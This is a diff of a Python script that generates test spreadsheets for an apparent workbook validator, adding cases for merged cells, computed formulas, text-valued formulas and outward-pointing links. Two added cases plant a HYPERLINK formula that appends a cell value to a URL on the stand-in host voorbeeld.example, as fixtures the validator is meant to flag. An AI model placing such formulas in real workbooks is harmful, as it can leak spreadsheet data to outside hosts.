@@ -237,7 +237,17 @@ def cases():
     wb = book(data())
     wb['Opdrachten'].merge_cells('C3:C4')
     save(wb, 'samengevoegd')
-    case('samengevoegd', 'openpyxl', 'merged cells in the data: one municipality is lost', 1, ['value-required'], SOUND)
+    case('samengevoegd', 'openpyxl', 'merged cells in the data: one municipality is lost', 1, ['value-required', 'merged-cells'], SOUND)
+
+    wb = plain_book(data(), top=3)
+    sheet = wb['Opdrachten']
+    sheet['A1'] = 'Opdrachten 2026'
+    sheet.merge_cells('A1:S2')
+    sheet.merge_cells('E3:F3')
+    sheet.merge_cells('H5:H6')
+    save(wb, 'samengevoegd-gewoon')
+    case('samengevoegd-gewoon', 'openpyxl', 'a plain sheet with a merged title, merged headers and merged cells', 1, ['merged-cells'], SOUND,
+         mapping=plain_mapping(municipalities=('Gemeenten', 3), allocation=('Toekenning', 3), assignments=('Opdrachten', 3)))
 
     wb = book({k: v for k, v in data().items() if k != 'Opdrachten'})
     put(wb.create_sheet('Opdrachten'), [ASSIGNMENTS])
@@ -334,7 +344,24 @@ def cases():
     wb = book(data())
     wb['Toekenning']['E2'] = '=C2+D2'
     save(wb, 'formules-zonder-waarde')
-    case('formules-zonder-waarde', 'openpyxl', 'a formula without a value kept in the file counts as not filled in', 1, ['value-required'], SOUND)
+    case('formules-zonder-waarde', 'openpyxl', 'formulas without a value kept in the file are calculated on opening, as in Excel', 0, clean=True)
+
+    wb = book(data())
+    wb['Opdrachten']['M2'] = '=2+2'
+    wb['Opdrachten']['M3'] = '=SUM(1,2)'
+    wb['Opdrachten']['Q2'] = '=M2*37.5'
+    save(wb, 'formules-goed')
+    case('formules-goed', 'openpyxl', 'strips and hours by formula', 0, clean=True)
+
+    wb = book(data())
+    wb['Opdrachten']['M4'] = '="2"'
+    save(wb, 'formule-geeft-tekst')
+    case('formule-geeft-tekst', 'openpyxl', 'a formula that gives strips as text', 1, ['number-as-text'], SOUND)
+
+    wb = book(data())
+    wb['Opdrachten']['S3'] = '=HYPERLINK("https://voorbeeld.example/?"&A3,"dossier")'
+    save(wb, 'formule-naar-buiten')
+    case('formule-naar-buiten', 'openpyxl', 'a formula that points outside the workbook', 0, ['formula-reaches-out'], SOUND)
 
     wb = book(data())
     put(wb['Opdrachten'], [assignment('2026-005', 'Emmen', 'Vergeten rij', 1, 'gepland', D(2026, 9, 1), D(2026, 10, 1))], top=7)
@@ -389,6 +416,11 @@ def cases():
     wb['Opdrachten']['M3'] = '=NA()'
     through_office('calc-foutcellen', wb, via='xlsx')
     case('calc-foutcellen', 'LibreOffice', 'formulas that fail', 1, ['formula-error'], SOUND)
+    wb = plain_book(changed((1, 'Opmerking', '=HYPERLINK("https://voorbeeld.example/?"&A2,"dossier")')))
+    wb['Opdrachten'].merge_cells('C3:C4')
+    through_office('calc-samengevoegd', wb, via='xlsx')
+    case('calc-samengevoegd', 'LibreOffice', 'merged municipalities and a formula that points outside, in a plain sheet', 1, ['merged-cells', 'formula-reaches-out'], SOUND,
+         mapping=plain_mapping(municipalities=('Gemeenten', 1), allocation=('Toekenning', 1), assignments=('Opdrachten', 1)))
     wb = book(data())
     wb['Opdrachten']['C2'].comment = Comment('Let op', 'x')
     wb['Opdrachten'].protection.sheet = True
